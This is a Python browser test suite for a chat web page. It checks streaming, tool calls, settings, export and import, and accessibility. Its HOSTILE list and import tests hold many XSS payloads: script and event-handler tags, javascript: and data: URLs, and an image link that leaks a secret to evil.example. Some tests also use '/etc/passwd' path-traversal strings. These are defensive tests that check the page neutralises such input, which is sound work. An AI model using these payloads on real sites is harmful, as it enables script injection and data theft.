"""The chat page with difficult answers: cut characters, hostile text, failures."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from itertools import chain, repeat
from typing import Any

import pytest
from acts import (
    answers,
    ask,
    expect,
    expect_answers,
    let_time_pass,
    send,
    stop_clock,
    wait_answered,
    wait_stored,
)
from scripted import Failure, Part, Script, answer, chunk, scripted
from serving import PATIENCE_S, wait_for

OpenTab = Callable[..., Any]


def test_characters_split_between_chunks_are_decoded(tab: Any, script: Script) -> None:
    text = "你好,世界。🦊👩‍👩‍👧 é"
    stream = b"".join(part for part in answer(text) if isinstance(part, bytes))
    stream = stream.replace(b"\n\n", b"\r\n\r\n")
    cut: list[Part] = []
    for byte in stream:
        cut += [bytes([byte]), 0.0005]
    script.say(*cut)
    assert ask(tab, "Hi") == text


def test_other_lines_of_a_stream_are_ignored(tab: Any, script: Script) -> None:
    noise = b": keep-alive\n\nevent: message\nid: 7\nretry: 10\n"
    script.say(noise, *answer(["a", "b"]))
    assert ask(tab, "Hi") == "ab"


def test_tokens_from_drafts_are_counted(tab: Any, script: Script) -> None:
    drafts = {"draft_n": 20, "draft_n_accepted": 18}
    timings = {"predicted_n": 40, "predicted_per_second": 50.0, **drafts}
    script.say(chunk({"content": "a"}), chunk({}, "stop", timings=timings), b"data: [DONE]\n\n")
    assert ask(tab, "Hi") == "a"
    expect(tab.locator(".stats").last).to_contain_text("40 tokens · 18 from drafts")


# Each text tries to run `hit()`, to load a resource, or to become an active element.
HOSTILE = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()><animate onbegin=hit() attributeName=x>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<a href='javascript:hit()'>x</a>",
    "<details open ontoggle=hit()>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'><base href=//evil.example>",
    "<form action=javascript:hit()><button>x</button></form>",
    "[x](javascript:hit())",
    "[x](  JaVaScRiPt:hit())",
    "[x](java\tscript:hit())",
    "[x](&#106;avascript:hit())",
    "[x](javascript&colon;hit())",
    "[x](<javascript:hit()>)",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](https://ok.example \"' onmouseover='hit()\")",
    '[x](https://ok.example" onmouseover="hit())',
    "[![x](javascript:hit())](javascript:hit())",
    "![x](https://evil.example/leak.png?q=secret)",
    "![x](data:image/svg+xml,<svg onload=hit()>)",
    "<javascript:hit()>",
    "<https://ok.example/?a=\"onclick=hit()>",
    "https://ok.example/\"onmouseover=\"hit()",
    "`<img src=x onerror=hit()>`",
    "```html\"><img src=x onerror=hit()>\n<script>hit()</script>\n```",
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
    "| <img src=x onerror=hit()> | b |\n|--|--|\n| <script>hit()</script> | [x](javascript:a) |",
    "- [x] <img src=x onerror=hit()>",
    "> <script>hit()</script>",
    "# <img src=x onerror=hit()>",
    "\u202e<script>hit()</script>\u0000<img src=x onerror=hit()>",
]  # fmt: skip

ALLOWED = {
    "A", "ARTICLE", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DETAILS", "DIV", "EM", "H2", "H3",
    "H4", "H5", "H6", "HR", "INPUT", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUMMARY", "svg",
    "path", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "FORM", "LABEL", "TEXTAREA",
}  # fmt: skip


def assert_harmless(tab: Any, requests: list[str], url: str) -> None:
    """Check that messages contain no active element, attribute or URL, and nothing was fetched."""
    found = tab.evaluate(
        """() => [...document.querySelectorAll("#messages *, #sidebar *, #models *, h1")].map(
            (each) => [each.tagName, each.getAttributeNames(), each.getAttribute("href")])"""
    )
    tags = {tag for tag, _, _ in found}
    assert tags <= ALLOWED | {"H1", "NAV", "SELECT", "OPTION"}
    for _, names, href in found:
        assert not [name for name in names if name.startswith("on")]
        assert href is None or href.startswith(("https://", "http://", "mailto:"))
    for link in tab.locator("#messages a").all():
        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
        link.hover()
    assert tab.evaluate("window.hits") == 0
    assert [each for each in requests if not each.startswith((url, "blob:", "data:"))] == []


def armed(open_tab: OpenTab, script: Script) -> tuple[Any, list[str]]:
    """Return a page that counts calls of `hit()`, and the URLs that it requests."""
    tab = open_tab(script.url)
    requests: list[str] = []
    tab.on("request", lambda request: requests.append(request.url))
    tab.evaluate("() => { window.hits = 0; window.hit = () => { window.hits += 1; }; }")
    return tab, requests


def test_hostile_markdown_runs_no_script(open_tab: OpenTab, script: Script) -> None:
    tab, requests = armed(open_tab, script)
    text = "\n\n".join(HOSTILE)
    script.say(*answer([text[i : i + 3] for i in range(0, len(text), 3)], reasoning=[text]))
    ask(tab, "\n\n".join(HOSTILE))
    tab.locator(".reasoning summary").click()
    tab.wait_for_selector(".thought p")
    expect(answers(tab)).to_contain_text("<script>hit()</script>")  # shown as text
    assert_harmless(tab, requests, script.url)


def test_hostile_calls_names_and_titles_run_no_script(open_tab: OpenTab, script: Script) -> None:
    evil = "<img src=x onerror=hit()>\"'><script>hit()</script>"
    script.models[0]["id"] = evil
    script.models[0]["state"] = "failed"
    script.models[0]["error"] = evil
    tab, requests = armed(open_tab, script)
    arguments = json.dumps({evil: evil})
    script.say(*answer("", calls=[(evil, arguments)], finish="tool_calls"))
    send(tab, evil)
    tab.wait_for_selector("form.results")
    script.say(Failure(400, evil, evil))
    tab.fill("form.results textarea", evil)
    tab.get_by_role("button", name="Send results").click()
    tab.wait_for_selector(".note.error")
    tab.locator(".result summary").click()
    tab.wait_for_selector(".result[open]")
    assert_harmless(tab, requests, script.url)


def test_hostile_import_runs_no_script(open_tab: OpenTab, script: Script, tmp_path: Any) -> None:
    tab, requests = armed(open_tab, script)
    evil = "<img src=x onerror=hit()>"
    node = {
        "id": evil, "parent": None, "children": [], "chosen": None, "role": "assistant",
        "content": "\n\n".join(HOSTILE), "reasoning": evil, "calls": [{"name": evil, "id": 5}],
        "stats": {"rate": evil, "tokens": 3}, "onload": "hit()", "error": {"message": evil},
    }  # fmt: skip
    conversation = {
        "id": evil, "title": evil, "system": evil, "settings": {"temperature": [evil]},
        "top": {"children": [evil], "chosen": evil}, "nodes": {evil: node},
    }  # fmt: skip
    file = tmp_path / "evil.json"
    document = {"format": "zinc-conversations", "version": 1, "conversations": [conversation]}
    file.write_text(json.dumps(document))
    import_file(tab, file, "Imported 1")
    tab.keyboard.press("Escape")
    tab.locator("#conversations .open").click()
    tab.wait_for_selector(".message.assistant")
    assert_harmless(tab, requests, script.url)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("not json", "not JSON"),
        ("[]", "contains no conversations"),
        ('{"format": "zinc-conversations", "version": 9, "conversations": []}', "another version"),
        ('{"format": "zinc-conversations", "version": 1, "conversations": [{}]}', "1 in the file"),
        # A message that is its own child would be shown endlessly.
        (
            '{"format": "zinc-conversations", "version": 1, "conversations": [{"top": '
            '{"children": ["a"], "chosen": "a"}, "nodes": {"a": {"role": "user", "parent": null, '
            '"children": ["a"], "chosen": "a"}}}]}',
            "damaged",
        ),
    ],
)
def test_bad_imports_are_refused(tab: Any, tmp_path: Any, text: str, message: str) -> None:
    file = tmp_path / "bad.json"
    file.write_text(text)
    import_file(tab, file, message)
    expect(tab.locator("#conversations .open")).to_have_count(0)


def import_file(tab: Any, file: Any, told: str) -> None:
    """Import a file and wait for the page's message about it."""
    stop_clock(tab)
    tab.click("#open-settings")
    tab.set_input_files("#settings input[type=file]", file)
    expect(tab.locator(".toast")).to_contain_text(told)
    let_time_pass(tab)


def test_tool_calls_are_shown_and_answered(tab: Any, script: Script) -> None:
    tools = '[{"name": "get_weather", "parameters": {"type": "object"}}]'
    tab.click("#open-settings")
    tab.get_by_label("Functions").fill(tools)
    tab.keyboard.press("Escape")
    calls = [("get_weather", '{"city": "Lisbon"}'), ("get_weather", '{"city": "Oslo"}')]
    script.say(*answer("Let me look.", calls=calls, finish="tool_calls"))
    script.say(*answer("Warm and cold."))
    send(tab, "Weather?")
    tab.wait_for_selector("form.results")
    for call, city in zip(tab.locator(".call pre").all(), ("Lisbon", "Oslo"), strict=True):
        expect(call).to_have_js_property("innerText", f'{{\n  "city": "{city}"\n}}')
    areas = tab.locator("form.results textarea")
    areas.nth(0).fill("18")
    areas.nth(1).fill("-3")
    tab.get_by_role("button", name="Send results").click()
    expect_answers(tab, "Let me look.", "Warm and cold.")
    wait_answered(tab)
    first, second = script.asked
    function = {"name": "get_weather", "parameters": {"type": "object"}}
    assert first["tools"] == [{"type": "function", "function": function}]
    assert second["messages"][1]["tool_calls"][1]["function"]["arguments"] == '{"city": "Oslo"}'
    assert second["messages"][2:] == [
        {"role": "tool", "tool_call_id": "call_0", "name": "get_weather", "content": "18"},
        {"role": "tool", "tool_call_id": "call_1", "name": "get_weather", "content": "-3"},
    ]


def test_invalid_tools_are_reported_before_sending(tab: Any, script: Script) -> None:
    tab.click("#open-settings")
    tab.get_by_label("Functions").fill('[{"nam": 1}]')
    tab.keyboard.press("Escape")
    stop_clock(tab)
    send(tab, "Hi")
    expect(tab.locator(".toast")).to_contain_text("Tool 1 has no name.")
    expect(tab.locator("#prompt")).to_have_value("Hi")
    assert script.asked == []


def test_reasoning_shows_its_time_while_it_runs(tab: Any, script: Script) -> None:
    gate = script.gate()
    script.say(*answer("Done.", reasoning=["First, ", gate, "then."]))
    send(tab, "Think")
    tab.wait_for_selector(".reasoning.active")
    label = tab.locator(".reasoning summary")
    expect(label).to_have_text(re.compile(r"^Thinking… [1-9]\d* s$"))
    gate.set()
    wait_answered(tab)
    expect(label).to_have_text(re.compile(r"^Thought for [1-9].* s$"))
    expect(tab.locator(".thought")).not_to_be_visible()


def test_page_waits_for_a_loading_model(tab: Any, script: Script) -> None:
    script.models[0].update(state="loading", progress=0.42)
    script.say(Failure(503, "the model is being loaded", "model_loading", {"Retry-After": "1"}))
    script.say(*answer("Here."))
    send(tab, "Hi")
    tab.wait_for_selector("#models .dot[data-state=loading]")
    expect(tab.locator("#models .state")).to_have_text("loading 42 %")
    script.models[0].update(state="loaded")
    wait_answered(tab)
    expect_answers(tab, "Here.")
    tab.wait_for_selector("#models .dot[data-state=loaded]")


def test_failures_are_shown_and_can_be_retried(tab: Any, script: Script) -> None:
    script.say(Failure(500, "the server failed on this request"))
    script.say(*answer("Better."))
    send(tab, "Hi")
    expect(tab.locator(".note.error")).to_have_text("The server failed on this requestTry again")
    tab.get_by_role("button", name="Try again").click()
    expect_answers(tab, "Better.")


def test_only_the_last_failure_can_be_retried(tab: Any, script: Script) -> None:
    for _ in range(2):
        script.say(Failure(500, "the server failed"))
        ask(tab, "Hi")
    failures = ["The server failed", "The server failedTry again"]
    expect(tab.locator(".note.error")).to_have_text(failures)
    tab.reload()
    expect(tab.locator(".note.error")).to_have_text(failures)


def test_an_answer_at_the_end_of_the_context_is_not_continued(tab: Any, script: Script) -> None:
    for total, note in ((4095, "its token limit.Continue"), (4096, "The context is full; a new")):
        *parts, _, done = answer("So long", finish="length")
        usage = {"prompt_tokens": total - 2, "completion_tokens": 2, "total_tokens": total}
        script.say(*parts, chunk({}, usage=usage), done)
        ask(tab, "Hi")
        expect(tab.locator(".note").last).to_contain_text(note)
    expect(tab.get_by_role("button", name="Continue")).to_have_count(0)


def test_broken_stream_keeps_the_received_text(tab: Any, script: Script) -> None:
    script.say(*answer(["Half", " an"])[:3])
    send(tab, "Hi")
    expect(tab.locator(".note.error")).to_contain_text("was lost")
    expect_answers(tab, "Half an")


def test_error_in_the_stream_is_shown(tab: Any, script: Script) -> None:
    error = b'data: {"error": {"message": "out of memory", "code": null}}\n\n'
    script.say(chunk({"content": "Half"}), error)
    send(tab, "Hi")
    expect(tab.locator(".note.error")).to_contain_text("Out of memory")


def test_stop_closes_the_connection(tab: Any, script: Script) -> None:
    gate = script.gate()
    script.say_all(chain([chunk({"content": "x"}), gate], repeat(chunk({"content": " x" * 2000}))))
    send(tab, "Hi")
    tab.wait_for_selector(".markdown p")
    tab.click("#stop")
    wait_answered(tab)
    gate.set()
    assert script.gone.wait(PATIENCE_S)


def test_settings_reach_the_request(tab: Any, script: Script) -> None:
    tab.click("#open-settings")
    expect(tab.locator('input[name="temperature"]')).to_have_attribute("placeholder", "0.8")
    tab.get_by_label("Instructions for the model").fill("Be brief.")
    tab.fill('input[name="temperature"]', "0.2")
    tab.fill('input[name="top_k"]', "7")
    tab.fill('input[name="top_p"]', "5")  # out of range: not sent, and marked as invalid
    expect(tab.locator('input[name="top_p"]')).to_have_attribute("aria-invalid", "true")
    tab.fill('input[name="seed"]', "11")
    tab.get_by_label("Stop strings").fill("END\n###")
    tab.select_option('select[name="thinking"]', "on")
    tab.fill('input[name="thinking_budget"]', "64")
    tab.get_by_role("button", name="Use these settings for new chats").click()
    tab.keyboard.press("Escape")
    tab.click("#new-chat")
    script.say(*answer("Ok."))
    ask(tab, "Hi")
    body = script.asked[0]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    expected = {
        "temperature": 0.2, "top_k": 7, "seed": 11, "stop": ["END", "###"],
        "enable_thinking": True, "thinking_budget": 64, "model": "demo", "stream": True,
    }  # fmt: skip
    assert {name: body[name] for name in expected} == expected
    assert "top_p" not in body


def test_chosen_model_is_kept(tab: Any, script: Script) -> None:
    script.models.append({"id": "other", "state": "unloaded", "meta": {}})
    tab.reload()
    expect(tab.locator("#models option").nth(1)).to_have_text("other (not loaded)")
    tab.select_option("#models select", "other")
    script.say(*answer("Ok."))
    ask(tab, "Hi")
    assert script.asked[0]["model"] == "other"
    tab.reload()
    expect(tab.locator("#models select")).to_have_value("other")


def test_dot_shows_that_the_server_died(open_tab: OpenTab) -> None:
    # With options the page is new: on the shared one the clock would stay installed.
    tab = open_tab("about:blank", wait=False, locale="en-GB")
    tab.clock.install()
    with scripted() as script:
        tab.goto(script.url)
        port = int(script.url.rstrip("/").rpartition(":")[2])
        dot, state = tab.locator("#models .dot"), tab.locator("#models .state")
        expect(dot).to_have_attribute("data-state", "loaded")
    tab.clock.fast_forward(5_000)  # to the next poll
    expect(dot).to_have_attribute("data-state", "offline")  # no request was sent: the page polled
    expect(state).to_have_text("not reachable")
    expect(tab.locator("#banner")).to_have_text("The server cannot be reached.")
    with scripted(port):
        expect(dot).to_have_attribute("data-state", "loaded")
        expect(state).to_have_text("")
        expect(tab.locator("#banner")).to_be_hidden()


def test_dot_shows_that_a_request_found_no_server(open_tab: OpenTab) -> None:
    with scripted() as script:
        tab = open_tab(script.url)
    ask(tab, "Hello")
    expect(tab.locator(".note.error")).to_contain_text("cannot be reached")
    expect(tab.locator("#models .dot")).to_have_attribute("data-state", "offline")


def test_picker_shows_an_answering_model_as_ready(tab: Any, script: Script) -> None:
    """This happens with the first token, even if the server's list still says otherwise."""
    script.models.append({"id": "other", "state": "unloaded", "meta": {}})
    tab.reload()
    tab.wait_for_selector("#models option", state="attached")
    tab.select_option("#models select", "other")
    dot = tab.locator("#models .dot")
    expect(dot).to_have_attribute("data-state", "unloaded")
    states: Any = tab.evaluate_handle(
        """() => {
            const seen = [], dot = document.querySelector("#models .dot");
            new MutationObserver(() => seen.push(dot.dataset.state)).observe(
                dot, { attributes: true });
            return seen;
        }"""
    )
    gate = script.gate()
    parts = [part.replace(b'"demo"', b'"other"') if isinstance(part, bytes) else part
             for part in answer(["Ok", gate, "."])]  # fmt: skip
    script.say(*parts)
    send(tab, "Hi")
    expect(tab.locator(".message.assistant .markdown")).to_have_text("Ok")
    wait_for(lambda: "loaded" in states.json_value())
    script.models[1]["state"] = "loaded"
    gate.set()
    wait_answered(tab)
    expect(dot).to_have_attribute("data-state", "loaded")
    expect(tab.locator("#models option").nth(1)).to_have_text("other")


def test_seed_shows_that_it_is_random(tab: Any, script: Script) -> None:
    tab.click("#open-settings")
    seed = tab.locator('input[name="seed"]')
    for told, shown in ((0xFFFFFFFF, "random"), (-1, "random"), (None, "random"), (42, "42")):
        script.params["seed"] = told
        tab.reload()
        tab.wait_for_selector("#models option", state="attached")
        tab.click("#open-settings")
        expect(seed).to_have_attribute("placeholder", shown)
        assert seed.evaluate("(e) => e.scrollWidth <= e.clientWidth")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Tell me a story about a mouse.", "Tell me a story about a mouse"),
        ("Tell me more…", "Tell me more"),
        ("What is 1.5 / 2?", "What is 1.5 2"),
        ("../../etc/passwd", "etc passwd"),
        ("你好!用中文介绍", "你好 用中文介绍"),
        ("x " * 60, "x " * 29 + "x"),
        ("?!...", ""),
    ],
)
def test_file_names_are_clean(lab: Any, title: str, name: str) -> None:
    script = "async (title) => (await import('./page/format.js')).fileName(title)"
    assert lab.evaluate(script, title) == name


def test_durations_are_rounded_before_they_are_split(lab: Any) -> None:
    durations = [994, 9940, 9960, 59_400, 59_600, 119_700, 3_700_000]
    texts = ["994 ms", "9.9 s", "10 s", "59 s", "1 min 0 s", "2 min 0 s", "61 min 40 s"]
    module = "import('/page/format.js')"
    assert lab.evaluate(f"(all) => {module}.then((f) => all.map(f.duration))", durations) == texts


def test_export_of_one_conversation_is_named_after_it(tab: Any, script: Script) -> None:
    script.say(*answer("Ok."))
    ask(tab, "Tell me about a mouse…")
    with tab.expect_download() as download:
        tab.get_by_role("button", name="Export Tell me about a mouse…").click(force=True)
    assert download.value.suggested_filename == "Tell me about a mouse.json"


def test_search_rename_delete_and_undo(tab: Any, script: Script) -> None:
    for question, reply in (("First one", "About apples."), ("Second one", "About pears.")):
        script.say(*answer(reply))
        ask(tab, question)
        tab.click("#new-chat")
    names = tab.locator("#conversations .name")
    expect(names).to_have_text(["Second one", "First one"])
    tab.fill("#search", "APPLES")
    expect(names).to_have_text(["First one"])
    expect(tab.locator(".snippet")).to_contain_text("apples")
    tab.fill("#search", "")
    tab.get_by_role("button", name="Rename First one").focus()
    tab.keyboard.press("Enter")
    tab.keyboard.type("Fruit")
    tab.keyboard.press("Enter")
    expect(names).to_have_text(["Second one", "Fruit"])
    stop_clock(tab)
    tab.get_by_role("button", name="Delete Second one").focus()
    tab.keyboard.press("Enter")
    expect(names).to_have_text(["Fruit"])
    tab.get_by_role("button", name="Undo").click()
    expect(names).to_have_text(["Second one", "Fruit"])
    wait_stored(tab, "Second one", "Fruit")
    tab.reload()
    expect(names).to_have_text(["Second one", "Fruit"])


def test_an_edit_is_open_once_and_outlasts_a_running_answer(tab: Any, script: Script) -> None:
    script.say(*answer("Hello."))
    ask(tab, "Hi")
    edit = tab.get_by_label("Edit the message")
    for _ in range(2):
        tab.press("#prompt", "ArrowUp")
        expect(edit).to_be_focused()
    edit.fill("Good morning")
    gate = script.gate()
    script.say(*answer(["Hello ", gate, "again."]))
    send(tab, "Hi again")
    expect(answers(tab)).to_have_count(2)
    stop_clock(tab)
    edit.press("Enter")
    expect(tab.locator(".toast")).to_contain_text("still running")
    let_time_pass(tab)
    expect(edit).to_have_value("Good morning")
    tab.press("#prompt", "ArrowUp")  # no edit of a question that is being answered
    expect(edit).to_have_count(1)
    gate.set()
    wait_answered(tab)
    script.say(*answer("Good morning."))
    edit.press("Enter")
    expect_answers(tab, "Good morning.")
    expect(edit).to_have_count(0)


def test_an_input_method_may_use_enter(tab: Any) -> None:
    tab.fill("#prompt", "ni hao")
    for event in ({"isComposing": True}, {"keyCode": 229}):
        pressed = {"key": "Enter", "cancelable": True, **event}
        was_used = "([e, given]) => !e.dispatchEvent(new KeyboardEvent('keydown', given))"
        assert not tab.evaluate(was_used, [tab.query_selector("#prompt"), pressed])
    expect(tab.locator("#prompt")).to_have_value("ni hao")


def test_the_focus_is_never_lost(tab: Any, script: Script) -> None:
    """Buttons that disappear when they are pressed give the focus to what takes their place."""

    def focused() -> str:
        element = "document.activeElement"
        found: str = tab.evaluate(f"{element}.ariaLabel || {element}.id")
        return found

    for title in ("One", "Two", "Three"):
        script.say(*answer("Hello."))
        tab.keyboard.press("Control+Shift+O")
        ask(tab, title)
    gate = script.gate()
    script.say(*answer(["Hello ", gate, "again."]))
    tab.get_by_role("button", name="Answer again").press("Enter")
    assert focused() == "Stop the answer"
    gate.set()
    wait_answered(tab)
    assert focused() == "prompt"
    script.say(*answer("Hello once more."))
    tab.get_by_role("button", name="Answer again").press("Enter")
    wait_answered(tab)
    for pressed, then in (("Earlier", "Earlier"), ("Earlier", "Later"), ("Later", "Later")):
        tab.get_by_role("button", name=f"{pressed} version").press("Enter")
        assert focused() == f"{then} version"
    for deleted, left in (("Three", ["Two", "One"]), ("Two", ["One"])):
        tab.get_by_role("button", name=f"Delete {deleted}").press("Enter")
        expect(tab.locator("#conversations .name")).to_have_text(left)
        assert tab.evaluate("document.activeElement.textContent") == left[0]
    tab.get_by_role("button", name="Delete One").press("Enter")
    expect(tab.locator("#conversations .open")).to_have_count(0)
    assert focused() == "search"


def test_a_dialog_keeps_its_conversation(tab: Any, script: Script) -> None:
    script.say(*answer("Hello."))
    ask(tab, "Hi")
    tab.click("#open-settings")
    tab.wait_for_selector("#settings[open]")
    tab.keyboard.press("Control+Shift+O")
    expect(tab.locator("#title")).to_have_text("Hi")


def test_export_and_import(open_tab: OpenTab, script: Script, tmp_path: Any) -> None:
    tab = open_tab(script.url)
    script.say(*answer("One **bold** word.", reasoning=["Hm."]))
    script.say(*answer("Two."))
    ask(tab, "Hello")
    tab.get_by_role("button", name="Answer again").click()
    wait_answered(tab)
    tab.click("#open-settings")
    with tab.expect_download() as download:
        tab.get_by_role("button", name="Export all").click()
    file = tmp_path / "all.json"
    download.value.save_as(file)
    other = open_tab(script.url)  # a new browser profile
    import_file(other, file, "Imported 1")
    other.keyboard.press("Escape")
    other.locator("#conversations .open").click()
    expect_answers(other, "Two.")
    other.get_by_role("button", name="Earlier version").click()
    expect_answers(other, "One bold word.")
    other.locator(".reasoning summary").click()
    expect(other.locator(".thought")).to_have_text("Hm.")


def test_changes_appear_in_other_tabs(tab: Any, script: Script) -> None:
    other = tab.context.new_page()
    other.goto(script.url)
    other.wait_for_selector("#models option", state="attached")
    script.say(*answer("Hello."))
    ask(tab, "Said in the first tab")
    expect(other.locator("#conversations .name")).to_have_text("Said in the first tab")


def test_a_conversation_is_answered_while_another_is_shown(tab: Any, script: Script) -> None:
    gate = script.gate()
    script.say(*answer(["slow", gate, "ly"]))
    send(tab, "First")
    expect_answers(tab, "slow")
    tab.click("#new-chat")
    expect(tab.locator("#conversations .pulse")).to_have_count(1)
    script.say(*answer("quick"))
    ask(tab, "Second")
    expect_answers(tab, "quick")
    expect(tab.locator("#conversations .pulse")).to_have_count(1)
    gate.set()
    expect(tab.locator("#conversations .pulse")).to_have_count(0)
    tab.locator("#conversations .open", has_text="First").click()
    expect_answers(tab, "slowly")


def test_copying_code_and_messages(open_tab: OpenTab, script: Script) -> None:
    tab = open_tab(script.url, permissions=["clipboard-read", "clipboard-write"])
    text = "Run\n\n```sh\nmake\n\ttest\n```"
    script.say(*answer(text))
    ask(tab, "How?")
    stop_clock(tab)
    tab.get_by_role("button", name="Copy code").click()
    tab.wait_for_selector("[aria-label=Copied]")
    assert tab.evaluate("navigator.clipboard.readText()") == "make\n\ttest"
    let_time_pass(tab)
    expect(tab.get_by_role("button", name="Copy code")).to_have_count(1)
    stop_clock(tab)
    tab.locator(".message.assistant").get_by_role("button", name="Copy message").click()
    tab.wait_for_selector(".foot [aria-label=Copied]")
    assert tab.evaluate("navigator.clipboard.readText()") == text


def test_long_answer_does_not_redraw_its_finished_part(tab: Any, script: Script) -> None:
    """The work for a new piece does not grow with the text above it."""
    paragraph = "Some **words** with `code` in a line.\n\n"
    tab.evaluate(
        """() => {
            window.added = 0;
            new MutationObserver((records) => {
                for (const record of records) window.added += record.addedNodes.length;
            }).observe(document.querySelector("#messages"), { childList: true, subtree: true });
        }"""
    )
    gates = [script.gate() for _ in range(40)]
    script.say(*answer([piece for gate in gates for piece in (paragraph * 10, gate)]))
    send(tab, "Go on")
    for n, gate in enumerate(gates):
        expect(tab.locator(".markdown p")).to_have_count(10 * (n + 1))
        gate.set()
    wait_answered(tab)
    assert tab.evaluate("window.added") < 400 * 12


def test_screen_readers_get_the_answer_block_by_block(tab: Any, script: Script) -> None:
    tab.evaluate(
        """() => {
            window.heard = [];
            new MutationObserver((records) => {
                for (const { addedNodes } of records) {
                    for (const node of addedNodes) window.heard.push(node.textContent);
                }
            }).observe(document.querySelector("#announcer"), { childList: true });
        }"""
    )
    script.say(*answer(["One.\n\n", "- two\n- three\n\nFour."]))
    ask(tab, "Hi")
    tab.wait_for_function("() => window.heard.at(-1) === 'The answer is complete.'")
    assert tab.evaluate("window.heard") == [
        "The answer begins.", "One.", "twothree", "Four.", "The answer is complete.",
    ]  # fmt: skip
    expect(tab.locator("#announcer")).to_have_attribute("aria-live", "polite")


def test_scrolling_up_stops_automatic_scrolling(tab: Any, script: Script) -> None:
    gate = script.gate()
    script.say(*answer(["A line.\n\n" * 60, gate, "A line.\n\n" * 60]))
    send(tab, "Go on")
    thread, lines = tab.locator("#thread"), tab.locator(".markdown p")
    expect(lines).to_have_count(60)
    wait_at_end(tab)
    top = thread.evaluate("(e) => e.scrollTop") - 400
    thread.hover()
    tab.mouse.wheel(0, -400)
    tab.wait_for_selector("#to-end:visible")
    expect(thread).to_have_js_property("scrollTop", top)
    gate.set()
    wait_answered(tab)
    expect(lines).to_have_count(120)
    expect(thread).to_have_js_property("scrollTop", top)
    tab.click("#to-end")
    wait_at_end(tab)


def wait_at_end(tab: Any) -> None:
    tab.wait_for_function(
        """() => {
            const { scrollHeight, scrollTop, clientHeight } = document.querySelector("#thread");
            return scrollHeight - scrollTop - clientHeight < 60;
        }"""
    )
